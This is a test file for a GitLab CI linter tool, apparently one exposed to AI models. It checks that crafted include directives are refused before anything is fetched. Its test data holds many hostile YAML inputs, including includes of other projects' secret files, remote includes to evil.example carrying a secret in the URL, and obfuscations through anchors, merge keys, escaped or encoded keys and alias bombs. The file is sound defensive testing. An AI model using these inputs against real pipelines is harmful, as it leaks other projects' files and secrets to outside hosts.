// Checking a CI configuration has GitLab fetch what it includes, with the token's rights: a way to read other projects, and
// to tell addresses on the web whatever a model knows. A tool that only reads must not be one.
import { expect, test } from 'vitest';
import { hostile, json, theWorld } from './support.js';

const job = 'test:\n  script: [npm test]\n';

const shop = { id: 42, path_with_namespace: 'acme/shop' };
const nothingWrong = { valid: true, errors: [], warnings: [], jobs: [], includes: [], merged_yaml: job };

/** Before a GitLab that finds nothing wrong. */
async function linter() {
  const connected = await hostile(({ method }, response) => json(response, method === 'GET' ? shop : nothingWrong), {
    families: ['pipelines'],
  });
  const lint = (content: string) => connected.call('ci_linter', { content, response_format: 'detailed' });
  await lint(job);
  const sent = connected.seen.length;
  return { ...connected, lint, more: () => connected.seen.length - sent };
}

test.each([
  ['a file of another project', 'include: { project: mallory/secrets, file: /secret.yml }'],
  ['in a list', 'include:\n  - local: /a.yml\n  - project: mallory/secrets\n    file: [/secret.yml]'],
  ['in a list of lists', 'include: [[[{ project: mallory/secrets, file: /secret.yml }]]]'],
  ['in another case', 'include: { project: Mallory/SECRETS, file: /secret.yml }'],
  ['with a slash before it', 'include: { project: /mallory/secrets, file: /secret.yml }'],
  ['by a variable', 'include: { project: $OTHER, file: /secret.yml }\nvariables: { OTHER: mallory/secrets }'],
  ['by a variable in braces', `include: { project: "$\{CI_PROJECT_NAMESPACE}/x", file: /secret.yml }`],
  ['a component', 'include: { component: $CI_SERVER_FQDN/mallory/secrets/x@1.0 }'],
  ['a component by a variable', 'include: { component: $CI_SERVER_FQDN/$OTHER/x@1.0 }'],
  ['a component of another host', 'include: { component: evil.example/acme/shop/x@1.0 }'],
  ['an address', 'include: { remote: "https://evil.example/?secret=hunter2" }'],
  ['an address by itself', 'include: https://evil.example/?secret=hunter2'],
  ['an address in a list', 'include: ["/a.yml", "https://evil.example/x.yml"]'],
  ['an address by a variable', 'include: $ADDRESS\nvariables: { ADDRESS: "https://evil.example" }'],
  [
    'an address by an input',
    'spec:\n  inputs:\n    x: { default: "https://evil.example" }\n---\ninclude: $[[ inputs.x ]]',
  ],
  ['after a header', 'spec: {}\n---\ninclude: { remote: "https://evil.example" }'],
  ['in flow style with a quoted key', '{ "include": { "remote": "https://evil.example" } }'],
  ['with an escaped key', '"\\x69nclude": { remote: "https://evil.example" }'],
  ['with a key that Ruby takes for a symbol', ':include: { :remote: "https://evil.example" }'],
  ['by an anchor', '.x: &x { remote: "https://evil.example" }\ninclude: *x'],
  ['by a merged mapping', '.x: &x { include: { remote: "https://evil.example" } }\n<<: *x'],
  ['by a list of merged mappings', '.x: &x { include: { remote: "https://evil.example" } }\n<<: [*x]'],
  ['twice, of which the last counts', 'include: /a.yml\ninclude: { remote: "https://evil.example" }'],
  ['twice, of which the first would count', 'include: { remote: "https://evil.example" }\ninclude: /a.yml'],
  [
    'merged over what stands before it',
    '.x: &x { include: { remote: "https://evil.example" } }\ninclude: /a.yml\n<<: *x',
  ],
  ['merged over a project', '.x: &x { project: mallory/secrets }\ninclude: { project: acme/shop, file: a, <<: *x }'],
  ['as a kind that is not known here', 'include: { artifact: x, job: y }'],
])('%s is not fetched', async (_, content) => {
  const { lint, events, more } = await linter();
  const result = await lint(content);
  expect(result).toMatchObject({ isError: true, code: expect.stringMatching(/^(outside|bad-reference)$/) });
  expect(more()).toBe(0);
  if (result.code === 'outside')
    expect(events()).toContainEqual(
      expect.objectContaining({ kind: 'request', decision: 'refused', reason: 'outside' }),
    );
});

test.each([
  ['a key that is encoded', '!!binary aW5jbHVkZQ==: { remote: "https://evil.example" }'],
  ['a key that is a list', '? [include]\n: { remote: "https://evil.example" }'],
  ['a parser that would read on', 'include: { remote: "https://evil.example" }\n\tx: 1\n a: b: c'],
  [
    'aliases that grow without end',
    `a: &a [x]\n${'bcdefghij'
      .split('')
      .map((name, i) => `${name}: &${name} [${`*${'abcdefghi'[i]},`.repeat(10)}]`)
      .join('\n')}\ninclude: *j`,
  ],
])('where %s hides what is included, nothing is sent', async (_, content) => {
  const { lint, more } = await linter();
  expect(await lint(content)).toMatchObject({ isError: true, code: 'bad-yaml' });
  expect(more()).toBe(0);
});

test.each([
  ['include: /.gitlab-ci.yml'],
  ['include: { local: /.gitlab-ci.yml }'],
  ['include: [{ project: acme/shop, file: /.gitlab-ci.yml, ref: main }]'],
  ['include-docs:\n  script: [make]'],
  ['test2:\n  trigger: { include: /child.yml }'],
  ['build:\n  script: !reference [test, script]'],
])('%s is checked as before', async (content) => {
  const { lint } = await linter();
  expect((await lint(`${content}\n${job}`)).isError).toBe(false);
});

test('a policy that names the project opens it, and one that names another does not', async () => {
  const the = await theWorld();
  const content = `include: { project: mallory/secrets, file: /secret.yml }\n${job}`;
  for (const [projects, isError] of [
    [['mallory/secrets'], false],
    [['mallory/other'], true],
  ] as const) {
    const { call } = await the.serve({ families: ['pipelines'], policy: { projects: [...projects] } });
    expect(await call('ci_linter', { content })).toMatchObject({ isError });
  }
});

test('what the CI file of the project includes from elsewhere is not shown either', async () => {
  const the = await theWorld();
  const ciFile = `include: { project: mallory/secrets, file: /secret.yml }\n${job}`;
  the.world.commit(the.project, { branch: 'sneaky', files: { '.gitlab-ci.yml': ciFile } });
  const { call } = await the.serve({ families: ['pipelines'] });
  const result = await call('ci_linter', { ref: 'sneaky', response_format: 'detailed' });
  expect(result.isError).toBe(false);
  expect(result.text).toContain('The merged YAML is not shown');
  expect(JSON.stringify(result)).not.toContain('hunter2');
});
